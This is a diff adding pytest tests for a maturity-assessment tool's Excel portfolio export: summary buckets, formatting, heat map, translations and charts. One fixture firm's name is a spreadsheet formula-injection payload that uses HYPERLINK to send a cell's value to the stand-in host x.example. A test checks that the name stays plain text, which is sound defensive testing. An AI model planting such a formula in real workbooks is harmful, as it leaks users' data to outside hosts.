@@ -1,0 +1,177 @@
+"""The portfolio pack: the workbook of `score DIR -o portfolio.xlsx`, `benchmark` and `trend` to
+files, the cross-client report of `maturity portfolio`, and the index of `report DIR`.
+
+Fixture (mini questionnaire, sub-domains a, b, c): six firms, every requirement up to a top level
+"full" and "none" above, so each firm's level, and each sub-domain's score under rule B, is its top
+level. Tops 1, 1, 1, 2, 2, 2; "Twice" (top 2) was assessed a year earlier at top 1 as well.
+Latest assessments: level 1 x 3, level 2 x 3 -> the national buckets ≤ L1 50 %, L2 50 %, L3 and
+≥ L4 hidden (0 firms < 3). Counting the old file too would give 4 of 7 (60 %) and 3 of 7 (40 %).
+Plan domain design = sub-domain a: (1 + 1 + 1 + 2 + 2 + 2) / 6 = 1.50.
+"""
+
+from __future__ import annotations
+
+import zipfile
+from pathlib import Path
+from typing import Any
+
+import pytest
+from typer.testing import CliRunner
+
+from maturity.cli import app
+from maturity.questionnaire import load_questionnaire
+from tests.conftest import MINI, answer_doc, write_yaml
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A2,"x")'
+FIRMS: list[tuple[str, int, dict[str, Any]]] = [
+    ("Alpha", 1, {}),
+    ("Beta", 1, {"size": "medium"}),
+    (FORMULA, 1, {}),
+    ("Delta", 2, {"tailoring": {"b": "no machining here"}}),
+    ("Echo", 2, {}),
+    ("Twice", 2, {}),
+]
+
+
+def write_firm(path: Path, name: str, top: int, date: str = "2026-11-20", **extra: Any) -> None:
+    q = load_questionnaire(MINI)
+    tailoring = extra.pop("tailoring", None)
+    answers = {
+        r.id: ("full" if r.level <= top else "none")
+        for r in q.requirements
+        if len(r.applies_to) == 4 and not (tailoring and r.id.split(".")[0] in tailoring)
+    }
+    doc = answer_doc(q, answers)
+    doc["organisation"].update(name=name, industry="toys", **extra)
+    doc["assessment"]["date"] = date
+    if tailoring:
+        doc["tailoring"] = tailoring
+    write_yaml(path, doc)
+
+
+@pytest.fixture
+def firms(tmp_path: Path) -> Path:
+    folder = tmp_path / "clients"
+    folder.mkdir()
+    for i, (name, top, extra) in enumerate(FIRMS):
+        write_firm(folder / f"firm{i}.yaml", name, top, **extra)
+    write_firm(folder / "twice-2025.yaml", "Twice", 1, date="2025-11-20")
+    return folder
+
+
+def run(*args: str | Path, lang: str = "en") -> tuple[int, str, str]:
+    result = CliRunner().invoke(
+        app,
+        ["--questionnaires", str(MINI), *map(str, args), "--jobs", "1", "--lang", lang],
+        env={"COLUMNS": "200"},
+    )
+    return result.exit_code, result.stdout, result.stderr
+
+
+def workbook(firms: Path, lang: str = "en") -> tuple[Any, Path]:
+    from openpyxl import load_workbook
+
+    out = firms.parent / f"portfolio-{lang}.xlsx"
+    code, _, err = run("score", firms, "-o", out, lang=lang)
+    assert code == 0, err
+    return load_workbook(out), out
+
+
+def rows_of(ws: Any) -> list[list[Any]]:
+    return [[c.value for c in row] for row in ws.iter_rows()]
+
+
+# --- the workbook ---------------------------------------------------------------------------------
+
+
+def test_workbook_has_summary_results_heat_map_and_failures(firms: Path) -> None:
+    book, _ = workbook(firms)
+    assert book.sheetnames == ["Summary", "Results", "Heat map", "Failures"]
+    summary = rows_of(book["Summary"])
+    assert summary[1][0] == "6 organisations (7 assessments; only the latest of each counts)"
+    table = {r[0]: r[1] for r in summary if r[0] in ("≤ L1", "L2", "L3", "≥ L4")}
+    assert table == {"≤ L1": 0.5, "L2": 0.5, "L3": "–", "≥ L4": "–"}
+    share = next(row for row in book["Summary"].iter_rows() if row[0].value == "≤ L1")[1]
+    assert share.number_format == "0%"
+    design = next(row for row in book["Summary"].iter_rows() if row[0].value == "Design")
+    assert (design[1].value, design[1].number_format, design[2].value) == (1.5, "0.00", 6)
+
+
+def test_results_sheet_is_formatted(firms: Path) -> None:
+    book, _ = workbook(firms)
+    ws = book["Results"]
+    header = [c.value for c in ws[1]]
+    assert ws.freeze_panes == "C2"
+    assert ws.auto_filter.ref == f"A1:{ws.cell(row=1, column=len(header)).column_letter}8"
+    assert ws.column_dimensions["A"].width == 40 and ws.column_dimensions["B"].width == 24
+    assert header[1] == "Organisation" and header[0] == "File"
+    score = ws.cell(row=2, column=header.index("Total score") + 1)
+    assert isinstance(score.value, int | float) and score.number_format == "0.00"
+    # level colours: one rule per level on every level column
+    rules = [(str(cf.sqref), r) for cf in ws.conditional_formatting for r in cf.rules]
+    level_column = ws.cell(row=1, column=header.index("Maturity level") + 1).column_letter
+    on_level = [r for sqref, r in rules if f"{level_column}2:{level_column}8" in sqref.split()]
+    assert sorted(r.formula[0] for r in on_level) == ["0", "1", "2", "3", "4", "5"]
+    assert on_level[0].dxf.fill.fgColor.rgb.endswith("F4B6B6")
+
+
+def test_formula_looking_name_stays_text(firms: Path) -> None:
+    book, _ = workbook(firms)
+    for sheet in ("Results", "Heat map"):
+        cells = [row[0] for row in book[sheet].iter_rows() if FORMULA in str(row[1].value)]
+        names = [
+            c
+            for row in book[sheet].iter_rows()
+            for c in row
+            if c.value == FORMULA and c.data_type == "s"
+        ]
+        assert names, (sheet, cells)
+        assert all(c.data_type != "f" for row in book[sheet].iter_rows() for c in row)
+
+
+@pytest.mark.parametrize(
+    ("lang", "size", "kind", "mode", "sheet"),
+    [
+        ("en", "medium", "discrete", "self-assessment", "Results"),
+        ("zh", "中型", "离散型", "企业自评", "评分结果"),
+    ],
+)
+def test_enumerations_are_translated(
+    firms: Path, lang: str, size: str, kind: str, mode: str, sheet: str
+) -> None:
+    book, _ = workbook(firms, lang)
+    rows = rows_of(book[sheet])
+    beta = next(r for r in rows if r[1] == "Beta")
+    assert size in beta and kind in beta and mode in beta
+    assert "medium" not in beta or lang == "en"
+
+
+def test_heat_map_shows_tailored_sub_domains_as_na_text(firms: Path) -> None:
+    book, _ = workbook(firms)
+    ws = book["Heat map"]
+    assert ws.freeze_panes == "C2"
+    rows = rows_of(ws)
+    assert rows[0] == [
+        "Organisation",
+        "Maturity level",
+        "Sub-domain a",
+        "Sub-domain b",
+        "Sub-domain c",
+    ]
+    assert [r[0] for r in rows[1:]] == sorted(r[0] for r in rows[1:])  # latest only: 6, not 7
+    delta = next(r for r in rows if r[0] == "Delta")
+    assert delta[:4] == ["Delta", 2, 2, "N/A"]
+    assert next(r for r in rows if r[0] == "Twice")[1] == 2  # the 2026 file, not 2025's
+    scales = [r.type for cf in ws.conditional_formatting for r in cf.rules]
+    assert "colorScale" in scales
+
+
+def test_summary_has_two_native_bar_charts(firms: Path) -> None:
+    _, out = workbook(firms)
+    with zipfile.ZipFile(out) as z:  # openpyxl does not read charts back: look at the parts
+        charts = sorted(n for n in z.namelist() if n.startswith("xl/charts/chart"))
+        assert charts == ["xl/charts/chart1.xml", "xl/charts/chart2.xml"]
+        first = z.read(charts[0]).decode()
+        drawing = z.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
+    assert "<barChart>" in first and "'Summary'!$B$" in first.replace("&apos;", "'")
+    assert "drawing" in drawing
